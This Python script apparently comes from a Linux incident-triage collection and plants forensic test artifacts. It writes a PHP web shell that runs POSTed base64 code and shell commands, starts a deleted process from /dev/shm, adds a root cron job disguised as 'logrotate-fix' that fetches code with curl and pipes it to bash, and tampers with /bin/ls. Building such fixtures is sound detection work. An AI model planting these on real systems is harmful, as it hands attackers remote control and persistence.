# SPDX-FileCopyrightText: Contributors to the csirt.linux_triage collection
# SPDX-License-Identifier: GPL-3.0-or-later

"""A web shell, a program that runs without its file, a cron table, and a program of a package that was altered."""

import os
import shutil
import subprocess
import time

SHELL = b'<?php @eval(base64_decode($_POST["x"])); if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); } ?>\n'


def write(path, content, mode, uid=0):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as stream:
        stream.write(content)
    os.chmod(path, mode)
    os.chown(path, uid, uid)


def run_without_a_file():
    os.makedirs('/dev/shm/.x', exist_ok=True)
    shutil.copy('/bin/sleep', '/dev/shm/.x/run')
    subprocess.Popen(
        ['/dev/shm/.x/run', '36000'], start_new_session=True, cwd='/',
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    time.sleep(0.5)
    os.unlink('/dev/shm/.x/run')


if __name__ == '__main__':
    write('/var/www/html/images/thumb.php', SHELL, 0o644, uid=33)
    run_without_a_file()
    write('/etc/cron.d/logrotate-fix', b'*/5 * * * * root curl -s http://198.51.100.7/u | bash\n', 0o644)
    with open('/bin/ls', 'ab') as stream:
        stream.write(b'\0altered\0')
